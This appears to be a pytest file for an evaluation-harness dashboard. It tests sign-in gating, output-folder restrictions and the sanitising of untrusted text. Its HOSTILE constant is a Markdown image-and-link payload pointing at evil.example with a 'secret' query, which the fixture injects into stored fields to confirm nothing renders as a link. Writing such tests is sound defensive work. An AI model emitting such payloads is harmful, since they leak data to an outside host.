"""Pages run only through app.py, and nothing a model, a data file or a person wrote becomes a link or image."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from evalharness.store import Store

from . import demo_db
from .conftest import ROOT, goto, links_and_images, markdown_bodies, sign_in, texts, write_config

HOSTILE = "![x](https://evil.example/?d=secret) [click](https://evil.example/x) <https://evil.example/y>"


def test_no_page_file_renders_anything_on_its_own(db: Path, config_file: Path) -> None:
    """Whatever Streamlit is pointed at besides app.py — a page module, the shared helpers — shows nothing."""
    from streamlit.testing.v1 import AppTest

    write_config(config_file, require_sign_in_to_view=True)
    sys.path.insert(0, str(ROOT / "dashboards"))  # as app.py does, so the modules import cleanly
    files = sorted(p for p in (ROOT / "dashboards").rglob("*.py") if p.name != "app.py")
    assert any(p.name == "ask.py" for p in files)
    for path in files:
        at = AppTest.from_file(str(path), default_timeout=60).run()
        assert not at.exception, (path, at.exception)
        assert not markdown_bodies(at) and not at.chat_message and not at.text_input, path


def test_ask_first_on_a_fresh_server_needs_sign_in(app, config_file: Path) -> None:
    write_config(config_file, require_sign_in_to_view=True)
    at = goto(app(), "ask").run()
    assert [t.value for t in at.title] == ["Please sign in"]
    assert "ask_reviewer" not in at.session_state  # no reviewer session opened, no key spent
    sign_in(at, demo_db.REVIEWER, demo_db.REVIEWER_PASSWORD)
    goto(at, "ask").run()
    assert [t.value for t in at.title] == ["Ask about the project"]


@pytest.fixture
def hostile_db(db: Path, demo) -> Path:
    """The demo store with Markdown injected wherever untrusted text reaches a page."""
    store = Store(db)
    with store.transaction() as con:
        con.execute("UPDATE runs SET checkpoint_name = ? WHERE checkpoint_name = 'stoney-v3-lora'", [HOSTILE])
        con.execute("UPDATE suite_items SET direction = ?, tags = [?] WHERE item_id = 'dq-02'", [HOSTILE, HOSTILE])
        con.execute("UPDATE generations SET text = ?", [HOSTILE])
        con.execute("UPDATE decisions SET reasons_json = ?, candidate = ?", [json.dumps([HOSTILE]), HOSTILE])
        rows = con.execute("SELECT suite_hash, meta_json FROM suites").fetchall()
        for suite_hash, meta_json in rows:
            meta = json.loads(meta_json)
            meta["description"] = HOSTILE
            meta["provenance"]["notes"] = HOSTILE
            con.execute("UPDATE suites SET meta_json = ? WHERE suite_hash = ?", [json.dumps(meta), suite_hash])
    demo_db.add_judge_verdict(store, demo.run_ids[("stoney-base", "stoney-dictionary-mini")], "dq-02",
                              rationale=HOSTILE, grades=(1, 4))
    return db


@pytest.mark.parametrize("page", ["overview", "compare", "item", "review"])
def test_untrusted_text_never_becomes_a_link_or_image(app, hostile_db: Path, demo, page: str) -> None:
    at = app().run()
    sign_in(at, demo_db.REVIEWER, demo_db.REVIEWER_PASSWORD)
    if page == "item":
        at.session_state["item_ref"] = (demo.dictionary.content_hash, "dq-02")
    goto(at, page).run()
    assert not at.exception
    shown = texts(at)
    assert "evil.example" in shown or page == "compare"  # the text is there, as typed …
    for body in markdown_bodies(at):
        assert links_and_images(body) == [], body  # … but nothing to fetch or follow


def test_publishing_from_the_browser_writes_only_to_the_configured_folder(app, db: Path, demo) -> None:
    """The page offers no folder (or name) to type: a browser never chooses where the server writes."""
    from evalharness.community import reviews

    store = Store(db)
    target = reviews.target(store, demo.run_ids[("stoney-base", "stoney-narrative-mini")], "nc-02")
    saved = reviews.save_review(store, demo_db.REVIEWER, target, narrative="The word is îjadaṯẖe.")
    reviews.review_correction(store, demo_db.ADMIN, saved.correction_id, "accepted")
    at = app().run()
    sign_in(at, demo_db.ADMIN, demo_db.ADMIN_PASSWORD)
    goto(at, "corrections").run()
    assert [t.label for t in at.text_input if t.key not in (None,) and not t.key.startswith("cr_note_")] == []
    at.button(key="cr_publish").click().run()
    assert not at.exception
    assert (db.parent / "published" / "suite.toml").is_file()  # [dashboard] corrections_suite_dir of the test
